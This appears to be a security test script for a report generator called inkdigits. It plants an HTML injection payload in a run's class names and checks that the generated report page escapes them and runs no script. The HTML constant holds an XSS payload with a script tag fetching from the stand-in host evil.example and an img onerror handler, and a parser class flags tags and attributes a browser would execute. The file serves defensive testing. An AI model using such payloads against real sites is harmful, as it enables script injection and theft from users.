"""A run whose classes have names that are HTML, with scripts and requests in them.

    python attacks/names_in_reports.py

They hope that a report is a page that obeys them. The victim has a report made of a stranger's run:
`inkdigits report RUN`. See `names_in_runs.py` for what else such a run hopes for.
"""

import json
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
from names_in_runs import run_of_names
from victim import NAME, Worked, imported_mb, inkdigits, is_obeyed, run

HTML = (
    '</title></svg>--><script src="https://evil.example/"></script><img src=x onerror="alert(1)">'
)
HARMLESS = ("data:", "#")
OWN_MB = 500  # of memory that a report may take beyond torch


class Obeyed(HTMLParser):
    """What a browser would run or fetch."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "base", "form"):
            self.found.append(tag)
        for name, value in attrs:
            leads_out = name in ("src", "href") and not (value or "").startswith(HARMLESS)
            if name.startswith("on") or name == "style" or leads_out:
                self.found.append(f"{tag} {name}={value}")


def attack(folder: Path) -> str:
    stranger = run_of_names(folder / "run")
    settings = (stranger / "run.json").read_text()
    hostile = json.dumps(NAME)[1:-1]
    (stranger / "run.json").write_text(settings.replace(hostile, json.dumps(HTML + NAME)[1:-1]))
    data, page = folder / "data.npz", folder / "page.html"
    rng = np.random.default_rng(0)
    images = rng.integers(0, 256, (20, 28, 28)).astype(np.uint8)
    labels = np.arange(20, dtype=np.uint8) % 10
    np.savez(data, x_train=images, y_train=labels, x_test=images, y_test=labels)
    few = ("--images", 2, "--steps", 1, "--restarts", 1)
    most_mb = imported_mb("torch") + OWN_MB
    outcome = inkdigits("report", stranger, "--data", data, "--out", page, *few, most_mb=most_mb)
    if outcome.code or is_obeyed(outcome):
        raise Worked(f"no report, or one that a terminal obeys: {outcome}")
    text = page.read_text()
    obeyed = Obeyed(text).found
    if obeyed or "evil.example" not in text or "\u202e" in text:
        raise Worked(f"the page has {obeyed[:3]}")
    return "as the names are text in the page, and its policy lets no script run"


if __name__ == "__main__":
    run(attack)
